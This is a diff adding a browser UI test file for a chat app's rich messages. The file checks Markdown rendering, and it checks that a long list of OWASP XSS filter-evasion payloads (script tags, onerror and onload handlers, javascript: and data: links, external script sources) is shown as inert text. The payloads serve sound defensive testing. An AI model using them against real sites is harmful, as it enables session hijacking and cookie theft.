@@ -1,0 +1,215 @@
+"""Rich conversations (#17) in the browser: Markdown and its safety against the OWASP XSS
+filter-evasion vectors, mentions (highlight, badge, autocomplete, the Mentions view), threads
+between two people, pins, the emoji picker, and the composer's keys."""
+
+from __future__ import annotations
+
+import base64
+import re
+from collections.abc import Callable
+from typing import Any
+
+from tests.ui.conftest import Person, save_screenshot
+
+# Recorded from the first script on the page: what the Content-Security-Policy refused.
+CSP_WATCH = """
+window.__cspViolations = [];
+document.addEventListener("securitypolicyviolation", (e) => {
+  window.__cspViolations.push(e.violatedDirective + " " + e.blockedURI);
+});
+"""
+
+SVG_XSS = base64.b64encode(
+    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("XSS");</script></svg>'
+).decode()
+
+# From the OWASP XSS Filter Evasion Cheat Sheet (and Markdown-specific variants of it): each is
+# sent as a message, and none may run, link to javascript:, or add an element or attribute.
+XSS_VECTORS = [
+    "<script>alert('XSS')</script>",
+    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    '<a onmouseover="alert(document.cookie)">xxs link</a>',
+    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+    '<img src=x onerror="' + "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')") + '">',
+    "<IMG SRC=" + "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')") + ">",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
+    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
+    "<iframe src=http://xss.rocks/scriptlet.html <",
+    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
+    "<svg/onload=alert('XSS')>",
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
+    f'<EMBED SRC="data:image/svg+xml;base64,{SVG_XSS}" type="image/svg+xml"></EMBED>',
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "[click me](javascript:alert('XSS'))",
+    "[click me](JaVaScRiPt:alert(1))",
+    "[click me](javascript&#58;alert(1))",
+    "[click me](  javascript:alert(1))",
+    "[click me](<javascript:alert(1)>)",
+    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[click me](vbscript:msgbox(1))",
+    "<javascript:alert(1)>",
+    "![img](javascript:alert(1))",
+    '![img](https://xss.example/a.png"onerror="alert(1))',
+    '[a](https://example.com/"onmouseover="alert(1))',
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
+    "> <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>",
+    "**<img src=x onerror=alert(1)>** _<b onmouseover=alert(1)>x</b>_",
+]
+
+
+def _watch_csp(person: Person) -> None:
+    person.context.add_init_script(CSP_WATCH)
+
+
+def _room(person: Person, name: str) -> str:
+    room = person.api("POST", "/rooms", json={"name": name, "visibility": "public"}).json()
+    return str(room["id"])
+
+
+def _post(person: Person, room_id: str, text: str, **extra: Any) -> dict[str, Any]:
+    r = person.api("POST", f"/rooms/{room_id}/messages", json={"text": text, **extra})
+    assert r.status_code == 201, r.text
+    body: dict[str, Any] = r.json()
+    return body
+
+
+def test_markdown_renders_the_documented_subset(people: Callable[..., Person]) -> None:
+    alice = people("alice").sign_up()
+    page = alice.page
+    rid = _room(alice, "md")
+    page.reload()
+    alice.wait_live()
+    alice.open_room("md")
+    _post(alice, rid, "**strong** *em* ~~gone~~ `a < b` and [docs](https://example.com/docs)")
+    _post(alice, rid, "```python\nprint('<b>hi</b>')\n```")
+    _post(alice, rid, "> quoted\n\n- one\n- two\n\n1. first\n2. second\nline\nbreak")
+    _post(
+        alice,
+        rid,
+        "<https://example.com/auto> and mailto: <bob@example.com>, not [this](javascript:alert(1))",
+    )
+    messages = page.locator("#messages")
+    first = messages.locator("li.msg").filter(has_text="strong")
+    first.wait_for()
+    assert first.locator(".text strong").inner_text() == "strong"
+    assert first.locator(".text em").inner_text() == "em"
+    assert first.locator(".text del").inner_text() == "gone"
+    assert first.locator(".text code").inner_text() == "a < b"
+    link = first.locator(".text a")
+    assert link.get_attribute("href") == "https://example.com/docs"
+    assert link.get_attribute("rel") == "noopener noreferrer"
+    code = messages.locator(".code-block")
+    code.wait_for()
+    assert code.locator(".code-lang").inner_text() == "python"
+    assert code.locator("pre code").inner_text() == "print('<b>hi</b>')"
+    assert (
+        page.evaluate("getComputedStyle(document.querySelector('.code-block pre code')).fontFamily")
+        .lower()
+        .find("mono")
+        >= 0
+    )
+    assert messages.locator("b").count() == 0
+    # The copy button puts the code on the clipboard.
+    alice.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    code.get_by_role("button", name="Copy code").click()
+    code.get_by_role("button", name="Copy code", exact=True).filter(has_text="Copied").wait_for()
+    assert page.evaluate("navigator.clipboard.readText()") == "print('<b>hi</b>')"
+    blocks = messages.locator("li.msg").filter(has_text="quoted")
+    assert blocks.locator("blockquote").inner_text() == "quoted"
+    assert blocks.locator("ul > li").all_inner_texts() == ["one", "two"]
+    assert blocks.locator("ol > li").count() == 2
+    assert blocks.locator("ol br").count() == 2
+    autos = messages.locator("li.msg").filter(has_text="mailto")
+    hrefs = [a.get_attribute("href") for a in autos.locator("a").all()]
+    assert hrefs == ["https://example.com/auto", "mailto:bob@example.com"]
+    assert "[this](javascript:alert(1))" in autos.inner_text()
+
+    # An edit re-renders.
+    box = page.locator("#composer-input")
+    box.click()
+    box.press("ArrowUp")
+    box.fill("now **bold** instead")
+    box.press("Enter")
+    edited = messages.locator("li.msg").filter(has_text="now bold instead")
+    edited.locator(".text strong", has_text="bold").wait_for()
+    assert "(edited)" in edited.inner_text()
+    save_screenshot(page, "markdown")
+    assert alice.console_errors == []
+
+
+def test_xss_filter_evasion_vectors_neither_run_nor_link(people: Callable[..., Person]) -> None:
+    alice = people("alice").sign_up()
+    bob = people("bob")
+    _watch_csp(bob)
+    bob.sign_up()
+    rid = _room(alice, "xss")
+    assert bob.api("POST", f"/rooms/{rid}/join").status_code == 204
+    for vector in XSS_VECTORS:
+        _post(alice, rid, vector)
+    _post(alice, rid, "the end")
+    bob.page.reload()
+    bob.wait_live()
+    bob.open_room("xss")
+    page = bob.page
+    bob.message("the end").wait_for()
+    rows = page.locator("#messages li.msg")
+    assert rows.count() == len(XSS_VECTORS) + 1
+    # Hover and click over every row: no event handler may fire.
+    for i in range(rows.count()):
+        row = rows.nth(i)
+        row.hover()
+        for a in row.locator(".text a").all():
+            assert re.match(r"^(https?|mailto):", a.get_attribute("href") or ""), a.get_attribute(
+                "href"
+            )
+    found = page.evaluate(
+        """() => {
+        const root = document.getElementById("messages");
+        const bad = [];
+        for (const el of root.querySelectorAll(".msg-body, .msg-body *")) {
+          const tag = el.tagName.toLowerCase();
+          if (["script", "img", "iframe", "object", "embed", "svg", "style", "link", "meta",
+               "base", "frame", "frameset", "form", "input", "body", "table", "b", "title"]
+              .includes(tag)) bad.push("element " + tag);
+          for (const attr of el.attributes) {
+            if (attr.name.startsWith("on")) bad.push("attribute " + attr.name);
+            if (attr.name === "style" || attr.name === "src" || attr.name === "background") {
+              bad.push("attribute " + attr.name);
+            }
+          }
+          if (tag === "a" && !/^(https?|mailto):/.test(el.getAttribute("href") || "")) {
+            bad.push("link " + el.getAttribute("href"));
+          }
+        }
+        return bad;
+      }"""
+    )
+    assert found == []
+    # The vectors show as the text they are.
+    assert rows.nth(0).locator(".text").inner_text() == XSS_VECTORS[0]
+    assert page.locator("#messages .code-block pre code").inner_text() == (
+        "<script>alert(1)</script>\n<img src=x onerror=alert(1)>"
+    )
+    page.wait_for_timeout(300)
+    assert bob.dialogs == []
+    assert page.evaluate("window.__cspViolations") == []
+    assert bob.unexpected_console_errors() == []
